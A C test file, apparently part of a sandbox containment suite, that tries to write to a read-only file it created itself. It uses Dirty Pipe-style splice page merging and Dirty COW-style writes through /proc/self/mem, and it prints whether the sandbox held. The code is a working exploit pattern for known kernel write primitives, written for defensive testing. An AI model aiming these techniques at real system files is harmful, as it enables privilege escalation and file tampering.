// fs-read-only-pages  [filesystem]
// Tries: change a file that is open for reading only through the kernel's own bugs of this
// class (pipe pages that merge, copy on write by /proc/self/mem); tried on a file of its own
// Must hold afterwards: the file is as it was
// Expected: status exit|signal|killed:seccomp, survivors 0, wall <= 14 s
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/syscall.h>
#include <sys/types.h>
static int bad;
#define ESC(...) do { bad = 1; printf("ESCAPED:" __VA_ARGS__); puts(""); fflush(stdout); } while (0)
__attribute__((unused)) static int done(void) { puts(bad ? "NOT-CONTAINED" : "CONTAINED"); fflush(stdout); return 0; }
#include <sys/mman.h>
#include <sys/stat.h>
static int changed(const char *path) {
    char b[4] = "";
    int fd = open(path, O_RDONLY);
    int n = read(fd, b, 4);
    close(fd);
    return n != 4 || memcmp(b, "orig", 4);
}
int main(void) {
    int fd = open("ro", O_CREAT | O_WRONLY, 0600);
    char page[4096] = "orig";
    if (write(fd, page, sizeof page) != sizeof page) return 1;
    close(fd);
    chmod("ro", 0444);
    int ro = open("ro", O_RDONLY), p[2];
    if (pipe(p)) return 1;
    for (int i = 0; i < 16; i++) if (write(p[1], page, 4096) < 0) break;
    for (int i = 0; i < 16; i++) if (read(p[0], page, 4096) < 0) break;
    off_t at = 0;
    if (syscall(SYS_splice, ro, &at, p[1], 0, 1, 0) == 1 && write(p[1], "EVIL", 4) == 4 && changed("ro")) ESC("pipe pages merge into the file");
    char *m = mmap(0, 4096, PROT_READ, MAP_PRIVATE, ro, 0);
    int mem = open("/proc/self/mem", O_RDWR);
    if (m != MAP_FAILED && mem >= 0 && pwrite(mem, "EVIL", 4, (off_t)m) == 4 && changed("ro")) ESC("a private page was written through to the file");
    char *s = mmap(0, 4096, PROT_READ, MAP_SHARED, ro, 0);
    if (s != MAP_FAILED && mem >= 0 && pwrite(mem, "EVIL", 4, (off_t)s) == 4 && changed("ro")) ESC("a shared page was written through to the file");
    if (s != MAP_FAILED && mprotect(s, 4096, PROT_READ | PROT_WRITE) == 0) ESC("a shared page became writable");
    return done();
}
